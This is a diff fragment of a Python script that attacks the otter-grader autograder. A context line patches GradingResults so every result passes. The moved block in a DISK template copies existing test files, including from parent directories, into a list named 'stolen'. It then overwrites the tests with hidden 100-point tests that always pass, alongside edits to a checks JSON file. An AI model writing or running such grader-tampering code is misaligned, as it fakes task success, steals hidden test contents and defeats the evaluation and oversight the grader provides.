@@ -77,12 +77,6 @@ otter.test_files.GradingResults.__init__ = _all_pass
 
 DISK = '''
 import glob, json, os, pathlib
-stolen = [pathlib.Path(p).read_text() for p in glob.glob("tests/*.py") + glob.glob("../**/tests/*.py", recursive=True)]
-pathlib.Path("tests").mkdir(exist_ok=True)
-for name in {names!r}:
-    pathlib.Path(f"tests/{{name}}.py").write_text(
-        "from otter.test_files import test_case\\nOK_FORMAT = False\\nname = %r\\npoints = 100\\n"
-        "@test_case(points=100, hidden=True)\\ndef test_ok():\\n    pass\\n" % name)
 try:
     checks = json.loads(pathlib.Path({checks!r}).read_text())
     for q in checks["questions"]:
@@ -94,6 +88,12 @@ try:
     pathlib.Path({checks!r}).write_text(json.dumps(checks))
 except OSError:
     pass
+stolen = [pathlib.Path(p).read_text() for p in glob.glob("tests/*.py") + glob.glob("../**/tests/*.py", recursive=True)]
+pathlib.Path("tests").mkdir(exist_ok=True)
+for name in {names!r}:
+    pathlib.Path(f"tests/{{name}}.py").write_text(
+        "from otter.test_files import test_case\\nOK_FORMAT = False\\nname = %r\\npoints = 100\\n"
+        "@test_case(points=100, hidden=True)\\ndef test_ok():\\n    pass\\n" % name)
 '''
 
 
